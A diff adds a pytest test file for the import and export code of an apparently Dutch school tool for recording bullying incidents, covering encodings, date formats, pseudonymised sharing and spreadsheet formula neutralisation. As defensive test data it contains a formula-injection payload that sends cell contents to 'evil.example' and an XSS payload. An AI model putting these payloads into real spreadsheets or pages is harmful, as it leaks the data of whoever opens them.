@@ -1,0 +1,881 @@
+"""Import and export (pestdata.io) against real SQLite files and real files on disk.
+
+Hostile files are written in the exact bytes the programs that make them write: Dutch Excel's
+"CSV (gescheiden door lijstscheidingsteken)" is Windows-1252 with ';' and CRLF, our own export
+is UTF-8 with BOM, openpyxl writes real Excel dates and numbers. Row numbers are the ones a
+spreadsheet shows (the header is row 1).
+"""
+
+from __future__ import annotations
+
+import csv
+import io as stdio
+import json
+import os
+import re
+import stat
+import subprocess
+import sys
+from datetime import date, datetime, timedelta
+from pathlib import Path
+
+import openpyxl
+import pytest
+import sqlalchemy as sa
+
+from pestdata import demo, privacy
+from pestdata.analytics import Filters
+from pestdata.guidance import load_protocol
+from pestdata.io import ImportFileError, export_frame, import_file, neutralise, write_export
+from pestdata.model import validate_incident, validate_step
+from pestdata.store import Store, audit, incidents
+
+TODAY = date(2026, 3, 1)  # the demo's "today"
+HEADER = [
+    "Datum melding",
+    "School",
+    "Gemeld door",
+    "Leerlingnummer",
+    "Groep",
+    "Platform",
+    "Vorm",
+    "Ernst",
+    "Behandelaar",
+    "Beschrijving",
+]
+NOT_A_NUMBER = (
+    "Leerlingnummer (leerling 1)",
+    "dit lijkt geen leerlingnummer; gebruik de code van de school (bijv. 123456), nooit een naam",
+)
+BAD_DATE = ("Datum melding", "geen geldige datum (gebruik dd-mm-jjjj)")
+FORMULA_START = ("=", "+", "-", "@")
+PSEUDONYM = re.compile(r"P-[0-9a-f]{12}")
+
+
+# --- helpers ---------------------------------------------------------------------------------
+
+
+def new_store(tmp_path: Path, name: str = "t") -> Store:
+    return Store(f"sqlite:///{tmp_path}/{name}.sqlite").ensure_schema()
+
+
+def row(n: int, **changes: str) -> dict[str, str]:
+    """A valid row in Dutch words; pupil number 40000n makes each row its own report."""
+    values = {
+        "Datum melding": "23-11-2025",
+        "School": "De Regenboog",
+        "Gemeld door": "Ouder",
+        "Leerlingnummer": str(400000 + n),
+        "Groep": "groep 7",
+        "Platform": "WhatsApp",
+        "Vorm": "Roddelen",
+        "Ernst": "Middel",
+        "Behandelaar": "Mw. Jansen",
+        "Beschrijving": f"Melding {n}",
+    }
+    values.update(changes)
+    return values
+
+
+def csv_bytes(
+    rows: list[dict[str, str]],
+    header: list[str] = HEADER,
+    *,
+    sep: str = ";",
+    encoding: str = "cp1252",
+    bom: bool = False,
+) -> bytes:
+    """What Dutch Excel writes by default (cp1252, ';', CRLF, '"' only where needed)."""
+    buffer = stdio.StringIO()
+    writer = csv.writer(buffer, delimiter=sep, lineterminator="\r\n")
+    writer.writerow(header)
+    for values in rows:
+        writer.writerow([values.get(column, "") for column in header])
+    return (b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode(encoding)
+
+
+def write(tmp_path: Path, name: str, content: bytes) -> Path:
+    path = tmp_path / name
+    path.write_bytes(content)
+    return path
+
+
+def outcomes(report) -> list[tuple[int, str, list[tuple[str, str]]]]:
+    return [(r.row, r.outcome, r.problems) for r in report.rows]
+
+
+def dry_run_then_commit(store: Store, path: Path, expected: list, **options):
+    """The dry run reports `expected` and stores nothing; the commit stores exactly the new."""
+    dry = import_file(store, path, **options)
+    assert outcomes(dry) == expected
+    assert store.count_incidents() == 0
+    done = import_file(store, path, commit=True, **options)
+    assert outcomes(done) == expected
+    new = sum(outcome == "nieuw" for _, outcome, _ in expected)
+    assert done.added == new
+    assert store.count_incidents() == new
+    return done
+
+
+def cases(store: Store) -> dict[str, dict]:
+    """Every stored case, keyed by its first target pupil number."""
+    with store.reading() as conn:
+        ids = conn.execute(sa.select(incidents.c.id)).scalars().all()
+    found = {}
+    for incident_id in ids:
+        case = store.get_incident(incident_id)
+        target = next(p["pupil_number"] for p in case["pupils"] if p["role"] == "target")
+        found[target] = case
+    return found
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    return list(csv.reader(stdio.StringIO(path.read_bytes().decode("utf-8-sig")), delimiter=";"))
+
+
+def xlsx_cells(path: Path) -> list[list]:
+    sheet = openpyxl.load_workbook(path).active
+    return [[cell.value for cell in line] for line in sheet.iter_rows()]
+
+
+def cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "pestdata.cli", *args],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **(env or {})},
+        timeout=120,
+    )
+
+
+# --- the care team's data, with extra descriptions and step notes ------------------------------
+
+
+@pytest.fixture(scope="module")
+def source(tmp_path_factory) -> Store:
+    """300 demo reports; 15 of them with a second description and a step with a note that
+    holds ';', quotes, a newline and accents (the hard parts of CSV)."""
+    folder = tmp_path_factory.mktemp("source")
+    store = Store(f"sqlite:///{folder}/source.sqlite").ensure_schema()
+    store.add_incidents(demo.generate(300, seed=2, today=TODAY), actor="demo")
+    plain_steps = [s.id for s in load_protocol() if not s.vraagt_uitkomst]
+    noted = 0
+    for incident_id in range(1, 301):
+        case = store.get_incident(incident_id)
+        missing = [s for s in plain_steps if s not in case["steps"]]
+        if not missing:
+            continue
+        store.append_description(
+            incident_id,
+            f'Aanvulling {incident_id}: moeder belde; "dreigende" berichten\nop Snapchat, café',
+            actor="mevr. Test (IB)",
+        )
+        store.record_step(
+            incident_id,
+            validate_step(
+                {
+                    "step_id": missing[0],
+                    "done_on": case["reported_on"],
+                    "done_by": "mevr. Test (IB)",
+                    "note": f'Gesprek {incident_id}; ouders "boos"\nvervolg in het café',
+                }
+            ),
+            actor="mevr. Test (IB)",
+        )
+        noted += 1
+        if noted == 15:
+            break
+    return store
+
+
+def pupil_numbers(store: Store) -> set[str]:
+    with store.reading() as conn:
+        return set(conn.execute(sa.text("SELECT pupil_number FROM incident_pupils")).scalars())
+
+
+def free_texts(store: Store) -> tuple[set[str], set[str], set[str]]:
+    """(description texts, step notes, staff names) stored in the database."""
+    with store.reading() as conn:
+        texts = set(conn.execute(sa.text("SELECT text FROM descriptions")).scalars())
+        notes = set(conn.execute(sa.text("SELECT note FROM steps_done WHERE note != ''")).scalars())
+        staff = set(conn.execute(sa.text("SELECT handler FROM incidents")).scalars())
+        staff |= set(conn.execute(sa.text("SELECT done_by FROM steps_done")).scalars())
+    return texts, notes, staff
+
+
+# --- 1. round trip ------------------------------------------------------------------------------
+
+
+def comparable(case: dict) -> dict:
+    return {
+        "school": case["school"],
+        "reported_on": case["reported_on"],
+        "happened_on": case["happened_on"],
+        "reporter": case["reporter"],
+        "group": case["group_name"],
+        "severity": case["severity"],
+        "status": case["status"],
+        "resolved_on": case["resolved_on"],
+        "handler": case["handler"],
+        "platforms": case["platforms"],
+        "forms": case["forms"],
+        "pupils": case["pupils"],
+        "steps": {
+            step_id: (s["done_on"], s["done_by"], s["note"], s["outcome"])
+            for step_id, s in case["steps"].items()
+        },
+    }
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_round_trip_restores_every_report_and_a_second_import_adds_nothing(
+    source, tmp_path, suffix
+):
+    out = tmp_path / f"zorgteam{suffix}"
+    write_export(export_frame(source, Filters()), out)
+    target = new_store(tmp_path, "empty")
+
+    report = import_file(target, out, commit=True)
+    assert report.refused() == []
+    assert report.ignored_columns == ["Meldingnummer"]
+    assert report.added == 300 == target.count_incidents()
+    assert [r.outcome for r in report.rows] == ["nieuw"] * 300
+    assert [r.row for r in report.rows] == list(range(2, 302))
+
+    original, imported = cases(source), cases(target)
+    assert original.keys() == imported.keys()
+    with_notes = 0
+    for pupil, case in original.items():
+        again = imported[pupil]
+        assert comparable(again) == comparable(case), pupil
+        assert [d["text"] for d in again["descriptions"]] == [
+            "\n\n".join(d["text"] for d in case["descriptions"])
+        ]
+        with_notes += any(s["note"] for s in again["steps"].values())
+    assert with_notes == 15  # the notes with ';', quotes and a newline came back
+
+    second = import_file(target, out, commit=True)
+    assert second.added == 0
+    assert [r.outcome for r in second.rows] == ["al aanwezig"] * 300
+    assert target.count_incidents() == 300
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="io.split_list splits a cell without '|' on '/', so the single valid pupil number "
+    "'LL/2024/017' in a care team export comes back as 'LL', '2024', '017' and is refused",
+)
+def test_round_trip_keeps_a_pupil_number_with_a_slash(tmp_path, valid_incident_data):
+    store = new_store(tmp_path, "slash")
+    store.add_incident(
+        validate_incident(
+            valid_incident_data(pupils=[{"pupil_number": "LL/2024/017", "role": "target"}])
+        ),
+        actor="t",
+    )
+    out = tmp_path / "zorgteam.csv"
+    write_export(export_frame(store, Filters()), out)
+    target = new_store(tmp_path, "empty")
+    dry_run_then_commit(target, out, [(2, "nieuw", [])])
+    assert target.get_incident(1)["pupils"] == [{"pupil_number": "LL/2024/017", "role": "target"}]
+
+
+# --- 2. hostile files ---------------------------------------------------------------------------
+
+
+def test_dutch_excel_csv_semicolon_windows_1252(tmp_path):
+    content = csv_bytes(
+        [
+            row(1, Vorm="Buitensluiten", Beschrijving="Zij werd één week buitengesloten (café)"),
+            row(
+                2,
+                School="Het Baken College",
+                Groep="Klas 2",
+                **{"Gemeld door": "Leerkracht"},
+                Platform="Snapchat",
+                Ernst="Ernstig",
+                Beschrijving='Geroddel over één leerling; daarna "ruzie"\nin het café',
+            ),
+        ]
+    )
+    assert b"\xe9\xe9n" in content and b"caf\xe9" in content and b"\r\n" in content
+    with pytest.raises(UnicodeDecodeError):
+        content.decode("utf-8")  # really Windows-1252, as Dutch Excel writes it
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store, write(tmp_path, "excel.csv", content), [(2, "nieuw", []), (3, "nieuw", [])]
+    )
+    stored = cases(store)
+    first, second = stored["400001"], stored["400002"]
+    assert first["forms"] == ["exclusion"]
+    assert first["reporter"] == "parent" and first["severity"] == "medium"
+    assert first["reported_on"] == date(2025, 11, 23)
+    assert first["descriptions"][0]["text"] == "Zij werd één week buitengesloten (café)"
+    assert (second["school"], second["group_name"]) == ("Het Baken College", "klas 2")
+    assert (second["reporter"], second["severity"]) == ("teacher", "high")
+    assert second["platforms"] == ["snapchat"] and second["forms"] == ["gossip"]
+    assert (
+        second["descriptions"][0]["text"]
+        == 'Geroddel over één leerling; daarna "ruzie"\nin het café'
+    )
+
+
+@pytest.mark.parametrize(
+    ("sep", "encoding", "bom"),
+    [(",", "utf-8", True), ("\t", "utf-8", False), (";", "utf-8", True), ("\t", "cp1252", False)],
+    ids=["comma-utf8-bom", "tab-utf8", "semicolon-utf8-bom", "tab-cp1252"],
+)
+def test_other_separators_and_encodings(tmp_path, sep, encoding, bom):
+    text = "Eén keer, in het café; daarna 'grap'"
+    content = csv_bytes(
+        [row(1, Beschrijving=text), row(2, Vorm="roddelen, buitensluiten")],
+        sep=sep,
+        encoding=encoding,
+        bom=bom,
+    )
+    assert content.startswith(b"\xef\xbb\xbfDatum") == bom
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store, write(tmp_path, "f.csv", content), [(2, "nieuw", []), (3, "nieuw", [])]
+    )
+    stored = cases(store)
+    assert stored["400001"]["descriptions"][0]["text"] == text
+    assert stored["400002"]["forms"] == ["exclusion", "gossip"]
+
+
+def test_mixed_encodings_in_one_file_read_as_the_same_letter(tmp_path):
+    header = csv_bytes([])
+    line_utf8 = csv_bytes([row(1, Beschrijving="Gesprek in het café", Behandelaar="Mw. Hélène")])
+    line_1252 = csv_bytes([row(2, Beschrijving="Gesprek in het café", Behandelaar="Mw. Hélène")])
+    content = (
+        header
+        + line_utf8.decode("cp1252").split("\r\n", 1)[1].encode("utf-8")
+        + line_1252.split(b"\r\n", 1)[1]
+    )
+    assert b"caf\xc3\xa9\r\n" in content and b"caf\xe9\r\n" in content
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store, write(tmp_path, "mixed.csv", content), [(2, "nieuw", []), (3, "nieuw", [])]
+    )
+    for case in cases(store).values():
+        assert case["descriptions"][0]["text"] == "Gesprek in het café"
+        assert case["handler"] == "Mw. Hélène"
+
+
+@pytest.mark.parametrize("commit", [False, True])
+def test_missing_required_column_is_a_dutch_file_error(tmp_path, commit):
+    header = [c for c in HEADER if c != "Datum melding"]
+    path = write(tmp_path, "zonder_datum.csv", csv_bytes([row(1)], header))
+    store = new_store(tmp_path)
+    with pytest.raises(ImportFileError) as error:
+        import_file(store, path, commit=commit)
+    assert "geen kolom 'Datum melding' gevonden" in str(error.value)
+    assert "Leerlingnummer" in str(error.value)  # names the columns it did find
+    assert store.count_incidents() == 0
+
+
+def test_optional_columns_may_be_missing_and_unknown_ones_are_listed(tmp_path):
+    header = HEADER + ["Opmerking intern", "Kolom 12"]
+    content = csv_bytes(
+        [row(1, **{"Opmerking intern": "niet importeren", "Kolom 12": "x"})], header
+    )
+    store = new_store(tmp_path)
+    report = dry_run_then_commit(store, write(tmp_path, "f.csv", content), [(2, "nieuw", [])])
+    assert report.ignored_columns == ["Opmerking intern", "Kolom 12"]
+    case = store.get_incident(1)
+    assert case["status"] == "new" and case["happened_on"] is None and case["steps"] == {}
+    assert [p["role"] for p in case["pupils"]] == ["target"]
+    assert "niet importeren" not in json.dumps(case, default=str)
+
+
+def test_a_10_mb_cell_refuses_that_row_only(tmp_path):
+    huge = "x" * 10_000_000
+    path = write(tmp_path, "groot.csv", csv_bytes([row(1), row(2, Beschrijving=huge), row(3)]))
+    assert path.stat().st_size > 10_000_000
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store,
+        path,
+        [
+            (2, "nieuw", []),
+            (3, "geweigerd", [("Beschrijving", "maximaal 10.000 tekens (nu 10.000.000)")]),
+            (4, "nieuw", []),
+        ],
+    )
+    assert sorted(cases(store)) == ["400001", "400003"]
+
+
+def test_dutch_date_notations(tmp_path):
+    accepted = [
+        "23-11-2025",
+        "23/11/25",
+        "23.11.2025",
+        "2025-11-23",
+        "23 nov 2025",
+        "23 november 2025",
+    ]
+    future = (date.today() + timedelta(days=30)).strftime("%d-%m-%Y")
+    refused = ["31-02-2025", "gisteren", future]
+    rows = [row(n, **{"Datum melding": d}) for n, d in enumerate(accepted + refused, start=1)]
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store,
+        write(tmp_path, "datums.csv", csv_bytes(rows)),
+        [(n, "nieuw", []) for n in range(2, 8)]
+        + [
+            (8, "geweigerd", [BAD_DATE]),
+            (9, "geweigerd", [BAD_DATE]),
+            (10, "geweigerd", [("Datum melding", "deze datum ligt in de toekomst")]),
+        ],
+    )
+    stored = cases(store)
+    assert len(stored) == 6
+    assert {c["reported_on"] for c in stored.values()} == {date(2025, 11, 23)}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1;"klik hier")',
+    "+1",
+    "@SUM(A1)",
+    "-2+3",
+]
+
+
+def test_formulas_are_imported_as_text_and_neutralised_on_export(tmp_path):
+    rows = [row(n, Beschrijving=text) for n, text in enumerate(FORMULAS, start=1)]
+    rows[2]["Behandelaar"] = "@mentor groep 7"
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store,
+        write(tmp_path, "formules.csv", csv_bytes(rows)),
+        [(n, "nieuw", []) for n in range(2, 6)],
+    )
+    stored = cases(store)
+    for n, text in enumerate(FORMULAS, start=1):
+        assert stored[str(400000 + n)]["descriptions"][0]["text"] == text
+    assert stored["400003"]["handler"] == "@mentor groep 7"
+    # A phone number in a step note starts with '+' too.
+    store.record_step(
+        1,
+        validate_step(
+            {
+                "step_id": "steun",
+                "done_on": date(2025, 11, 24),
+                "done_by": "-Mw. Jansen",
+                "note": "+31 6 12345678 gebeld",
+            }
+        ),
+        actor="t",
+    )
+
+    out_csv, out_xlsx = tmp_path / "uit.csv", tmp_path / "uit.xlsx"
+    frame = export_frame(store, Filters())
+    write_export(frame, out_csv)
+    write_export(frame, out_xlsx)
+
+    raw = out_csv.read_bytes().decode("utf-8-sig")
+    for text in FORMULAS:
+        assert "'" + text.replace('"', '""') in raw
+    for table in (csv_cells(out_csv), xlsx_cells(out_xlsx)):
+        header, *lines = table
+        column = {name: i for i, name in enumerate(header)}
+        cells = [v for line in lines for v in line if isinstance(v, str)]
+        assert cells and not [v for v in cells if v.startswith(FORMULA_START)]
+        assert sorted(line[column["Beschrijving"]] for line in lines) == sorted(
+            "'" + text for text in FORMULAS
+        )
+        assert "'@mentor groep 7" in [line[column["Behandelaar"]] for line in lines]
+        assert "'+31 6 12345678 gebeld" in [line[column["Stap steun: notitie"]] for line in lines]
+        assert "'-Mw. Jansen" in [line[column["Stap steun: door"]] for line in lines]
+    sheet = openpyxl.load_workbook(out_xlsx).active
+    assert [c for line in sheet.iter_rows() for c in line if c.data_type == "f"] == []
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("gewoon", "gewoon"),
+        ("a=b", "a=b"),
+        (12, 12),
+        ("", ""),
+    ],
+)
+def test_neutralise(value, expected):
+    assert neutralise(value) == expected
+
+
+@pytest.mark.parametrize(
+    "blank",
+    [
+        pytest.param(b";" * (len(HEADER) - 1), id="excel-empty-rows"),
+        pytest.param(
+            b"",
+            id="blank-lines",
+            marks=pytest.mark.xfail(
+                strict=True,
+                reason="io.read_table: pd.read_csv(skip_blank_lines=False, "
+                "keep_default_na=False, engine='python') gives NaN for a truly empty line; "
+                "import_file's empty-line check tests str(v).strip() and sees 'nan', so the "
+                "line is refused on every required field (\"onbekende waarde 'nan'\")",
+            ),
+        ),
+    ],
+)
+def test_empty_lines_in_the_middle_and_at_the_end_are_skipped(tmp_path, blank):
+    lines = csv_bytes([row(1), row(2)]).split(b"\r\n")  # header, row 2, row 3, ''
+    content = b"\r\n".join([lines[0], lines[1], blank, lines[2], blank, blank]) + b"\r\n"
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store, write(tmp_path, "leeg.csv", content), [(2, "nieuw", []), (4, "nieuw", [])]
+    )
+
+
+def test_row_refusals_and_commit_of_the_valid_rows_in_one_transaction(tmp_path):
+    html = '<script>alert("x")</script><b>vet</b> &amp; <img src=x onerror=alert(1)>'
+    rows = [
+        row(1),
+        row(2, Leerlingnummer="Jan de Vries"),
+        row(3, Platform="Myspace"),
+        row(4, Beschrijving=html),
+        row(5, Vorm="Buitensluiten", Platform="TikTok, Snapchat"),
+    ]
+    store = new_store(tmp_path)
+    path = write(tmp_path, "gemengd.csv", csv_bytes(rows))
+    report = dry_run_then_commit(
+        store,
+        path,
+        [
+            (2, "nieuw", []),
+            (3, "geweigerd", [NOT_A_NUMBER]),
+            (
+                4,
+                "geweigerd",
+                [("Platforms", "onbekende waarde 'Myspace'; kies een van de mogelijkheden")],
+            ),
+            (5, "nieuw", []),
+            (6, "nieuw", []),
+        ],
+    )
+    assert report.refused() == [
+        f"rij 3: {NOT_A_NUMBER[0]}: {NOT_A_NUMBER[1]}",
+        "rij 4: Platforms: onbekende waarde 'Myspace'; kies een van de mogelijkheden",
+    ]
+    assert report.summary() == "5 rijen: 3 toegevoegd, 0 al aanwezig, 2 geweigerd."
+    stored = cases(store)
+    assert sorted(stored) == ["400001", "400004", "400005"]
+    assert stored["400004"]["descriptions"][0]["text"] == html
+    assert stored["400005"]["platforms"] == ["snapchat", "tiktok"]
+    assert "Jan de Vries" not in json.dumps([stored[k] for k in stored], default=str)
+    # One transaction: one import entry in the audit log, one creation time for all.
+    with store.reading() as conn:
+        entries = conn.execute(sa.select(audit).where(audit.c.action == "import")).all()
+        stamps = set(conn.execute(sa.select(incidents.c.created_at)).scalars())
+    assert len(entries) == 1 and json.loads(entries[0].new_value)["added"] == 3
+    assert len(stamps) == 1
+
+
+def mapped_file(tmp_path: Path) -> Path:
+    header = ["Gemeld op datum" if c == "Datum melding" else c for c in HEADER]
+    rows = [{("Gemeld op datum" if k == "Datum melding" else k): v for k, v in row(1).items()}]
+    return write(tmp_path, "eigen_kop.csv", csv_bytes(rows, header))
+
+
+def test_mapping_to_a_field_name_and_no_mapping(tmp_path):
+    path = mapped_file(tmp_path)
+    store = new_store(tmp_path)
+    with pytest.raises(ImportFileError):
+        import_file(store, path)
+    dry_run_then_commit(store, path, [(2, "nieuw", [])], mapping={"Gemeld op datum": "reported_on"})
+    assert store.get_incident(1)["reported_on"] == date(2025, 11, 23)
+
+
+MAPPING_BUG = (
+    "io.column_map looks the mapping's target up in HEADERS without normalise_header: "
+    "HEADERS has 'datum melding', the target is 'Datum melding', so the column maps to the "
+    "unknown field 'Datum melding' and import_file raises \"geen kolom 'Datum melding' gevonden\" "
+    "(mapping to 'reported_on' or 'datum melding' works)"
+)
+
+
+@pytest.mark.xfail(strict=True, reason=MAPPING_BUG)
+def test_mapping_to_our_dutch_header(tmp_path):
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store,
+        mapped_file(tmp_path),
+        [(2, "nieuw", [])],
+        mapping={"Gemeld op datum": "Datum melding"},
+    )
+    assert store.get_incident(1)["reported_on"] == date(2025, 11, 23)
+
+
+@pytest.mark.xfail(strict=True, reason="CLI --map: " + MAPPING_BUG)
+def test_cli_map_option(tmp_path):
+    url = f"sqlite:///{tmp_path}/cli.sqlite"
+    path = mapped_file(tmp_path)
+    done = cli(
+        "import", str(path), "--db", url, "--map", "Gemeld op datum=Datum melding", "--commit"
+    )
+    assert done.returncode == 0, done.stderr
+    assert "1 rijen: 1 toegevoegd, 0 al aanwezig, 0 geweigerd." in done.stdout
+    assert Store(url).count_incidents() == 1
+
+
+def test_xlsx_from_openpyxl_with_real_dates_and_numbers(tmp_path):
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["Datum melding", "Datum voorval", *HEADER[1:4], "Pester", *HEADER[4:]])
+    sheet.append(
+        [datetime(2025, 11, 23), date(2025, 11, 20), "De Regenboog", "Leerkracht", 123456]
+        + [234567.0, "groep 6", "TikTok", "Buitensluiten", "Ernstig", "Mw. Jansen", "één"]
+    )
+    sheet.append(
+        [datetime(2025, 11, 24, 13, 5), datetime(2025, 11, 24), "De Regenboog", "Mentor", 123457]
+        + [None, "klas 2", "Discord", "Bedreiging", "Hoog", "Dhr. Visser", "café"]
+    )
+    for cell in sheet["A"][1:]:
+        cell.number_format = "DD-MM-YYYY"
+    path = tmp_path / "school.xlsx"
+    book.save(path)
+    assert isinstance(openpyxl.load_workbook(path).active["E2"].value, int)
+    store = new_store(tmp_path)
+    dry_run_then_commit(store, path, [(2, "nieuw", []), (3, "nieuw", [])])
+    stored = cases(store)
+    first, second = stored["123456"], stored["123457"]
+    assert (first["reported_on"], first["happened_on"]) == (date(2025, 11, 23), date(2025, 11, 20))
+    assert first["pupils"] == [
+        {"pupil_number": "234567", "role": "bully"},
+        {"pupil_number": "123456", "role": "target"},
+    ]
+    assert (second["reported_on"], second["happened_on"]) == (date(2025, 11, 24),) * 2
+    assert second["pupils"] == [{"pupil_number": "123457", "role": "target"}]
+    assert (second["forms"], second["severity"]) == (["threats"], "high")
+    assert first["descriptions"][0]["text"] == "één"
+
+
+@pytest.mark.parametrize(
+    "content, message",
+    [
+        pytest.param(b"", "het bestand is leeg", id="empty"),
+        pytest.param(b"\r\n \r\n\r\n", "het bestand is leeg", id="only-blank-lines"),
+        pytest.param(b"PK\x03\x04" + bytes(500), "geen leesbaar Excel-bestand", id="broken-xlsx"),
+        pytest.param(
+            bytes(range(256)) * 40,
+            None,
+            id="binary-garbage",
+            marks=pytest.mark.xfail(
+                strict=True,
+                reason="io.read_table does not catch pandas' ParserError ('new-line character "
+                "seen in unquoted field'); a binary file raises that English pandas error "
+                "instead of ImportFileError",
+            ),
+        ),
+    ],
+)
+def test_unreadable_files_are_dutch_file_errors(tmp_path, content, message):
+    path = write(tmp_path, "kapot.csv", content)
+    store = new_store(tmp_path)
+    with pytest.raises(ImportFileError) as error:
+        import_file(store, path, commit=True)
+    assert str(path) in str(error.value)
+    if message:
+        assert message in str(error.value)
+    assert store.count_incidents() == 0
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="io.read_table: pd.read_csv(engine='python') raises ParserError 'Expected 10 fields "
+    "in line 3, saw 12' for a row with two extra ';'; neither that row is refused nor an "
+    "ImportFileError raised",
+)
+def test_a_row_with_too_many_cells_is_refused_or_a_file_error(tmp_path):
+    lines = csv_bytes([row(1), row(2), row(3)]).split(b"\r\n")
+    lines[2] += b";;extra"
+    path = write(tmp_path, "scheef.csv", b"\r\n".join(lines))
+    store = new_store(tmp_path)
+    try:
+        report = import_file(store, path)
+    except ImportFileError:
+        assert store.count_incidents() == 0
+    else:
+        assert [(r.row, r.outcome) for r in report.rows] == [
+            (2, "nieuw"),
+            (3, "geweigerd"),
+            (4, "nieuw"),
+        ]
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason='io.read_table: csv.Sniffer takes "\'" for a quote character, finds "\'grap\'," '
+    "and picks ',' as the delimiter of a ';' file, so the header is one column and "
+    "import_file raises \"geen kolom 'Datum melding' gevonden\"",
+)
+def test_dutch_apostrophes_do_not_confuse_the_separator(tmp_path):
+    text = "'s Avonds foto's gedeeld, 'grap', niet 'leuk'"
+    store = new_store(tmp_path)
+    dry_run_then_commit(
+        store,
+        write(tmp_path, "apostrof.csv", csv_bytes([row(1, Beschrijving=text), row(2)])),
+        [(2, "nieuw", []), (3, "nieuw", [])],
+    )
+    assert cases(store)["400001"]["descriptions"][0]["text"] == text
+
+
+# --- 3. share export ----------------------------------------------------------------------------
+
+
+def share_export(store: Store, tmp_path: Path, name: str) -> tuple[Path, Path]:
+    frame = export_frame(store, Filters(), share=True)
+    paths = (tmp_path / f"{name}.csv", tmp_path / f"{name}.xlsx")
+    for path in paths:
+        write_export(frame, path)
+    return paths
+
+
+PUPIL_COLUMNS = ("Gepeste leerling", "Pester", "Omstanders")
+
+
+def test_share_export_has_pseudonyms_and_no_free_text_or_staff(source, tmp_path, monkeypatch):
+    key = tmp_path / "sleutels" / "diep" / "secret.key"
+    monkeypatch.setenv("PESTDATA_SECRET_FILE", str(key))
+    numbers = pupil_numbers(source)
+    texts, notes, staff = free_texts(source)
+    assert len(numbers) > 300 and len(texts) > 15 and len(notes) == 15 and len(staff) >= 6
+
+    out_csv, out_xlsx = share_export(source, tmp_path, "bestuur")
+    assert stat.S_IMODE(key.stat().st_mode) == 0o600
+    raw = out_csv.read_bytes().decode("utf-8-sig")
+    for table in (csv_cells(out_csv), xlsx_cells(out_xlsx)):
+        header, *lines = table
+        assert len(lines) == 300
+        assert "Behandelaar" not in header and "Beschrijving" not in header
+        assert not [c for c in header if c.endswith((": door", ": notitie"))]
+        cells = ["" if v is None else str(v) for line in lines for v in line]
+        for name in PUPIL_COLUMNS:
+            i = header.index(name)
+            for line in lines:
+                codes = [c for c in ("" if line[i] is None else line[i]).split(" | ") if c]
+                assert all(PSEUDONYM.fullmatch(c) for c in codes), line[i]
+        # Pseudonyms (hex) removed, no pupil number is left anywhere, not even inside a cell.
+        joined = PSEUDONYM.sub("", "\n".join(cells))
+        assert not [n for n in numbers if n in joined]
+        assert not [t for t in texts | notes | staff if t in joined]
+    assert not [n for n in numbers if n in PSEUDONYM.sub("", raw)]
+    assert not [t for t in staff if t in raw]
+    assert not [t for t in texts | notes if t.split("\n")[0] in raw]
+    # The secret is not in the database.
+    secret = key.read_bytes()
+    database = Path(source.engine.url.database)
+    for part in database.parent.glob(database.name + "*"):
+        assert secret not in part.read_bytes()
+
+
+def pseudonyms_by_report(path: Path) -> dict[str, tuple[str, ...]]:
+    header, *lines = csv_cells(path)
+    number = header.index("Meldingnummer")
+    return {line[number]: tuple(line[header.index(c)] for c in PUPIL_COLUMNS) for line in lines}
+
+
+def test_same_pupil_same_pseudonym_per_secret_and_another_with_another_secret(
+    source, tmp_path, monkeypatch
+):
+    key = tmp_path / "a" / "secret.key"
+    monkeypatch.setenv("PESTDATA_SECRET_FILE", str(key))
+    first = pseudonyms_by_report(share_export(source, tmp_path, "een")[0])
+    again = pseudonyms_by_report(share_export(source, tmp_path, "twee")[0])
+    assert first == again and len(first) == 300
+
+    # The code is the keyed pseudonym of the stored pupil number.
+    case = source.get_incident(1)
+    target = next(p["pupil_number"] for p in case["pupils"] if p["role"] == "target")
+    assert first["1"][0] == privacy.pseudonym(key.read_bytes(), target)
+
+    monkeypatch.setenv("PESTDATA_SECRET_FILE", str(tmp_path / "b" / "secret.key"))
+    other = pseudonyms_by_report(share_export(source, tmp_path, "ander")[0])
+    assert other.keys() == first.keys()
+    assert key.read_bytes() != (tmp_path / "b" / "secret.key").read_bytes()
+    for report, codes in first.items():
+        for mine, theirs in zip(codes, other[report], strict=True):
+            assert (mine == theirs) == (mine == "")  # every pupil got another code
+
+
+def test_secret_file_lives_outside_the_database_folder(tmp_path, monkeypatch):
+    monkeypatch.delenv("PESTDATA_SECRET_FILE", raising=False)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    store = new_store(tmp_path / "db")
+    database = Path(store.engine.url.database).resolve()
+    path = privacy.secret_path()
+    assert path == tmp_path / "config" / "pestdata" / "secret.key"
+    assert not path.resolve().is_relative_to(database.parent)
+    secret = privacy.installation_secret()
+    assert len(secret) == 32 and path.read_bytes() == secret
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert privacy.installation_secret() == secret  # made once, then read
+
+    inside = tmp_path / "db" / "mijn.key"  # only where PESTDATA_SECRET_FILE says so
+    monkeypatch.setenv("PESTDATA_SECRET_FILE", str(inside))
+    assert privacy.secret_path() == inside
+
+
+# --- 4. command line ----------------------------------------------------------------------------
+
+
+def test_cli_import_dry_run_prints_summary_and_stores_nothing(tmp_path):
+    url = f"sqlite:///{tmp_path}/cli.sqlite"
+    path = write(tmp_path, "f.csv", csv_bytes([row(1), row(2, Platform="Myspace"), row(3)]))
+    done = cli("import", str(path), "--db", url)
+    assert done.returncode == 0, done.stderr
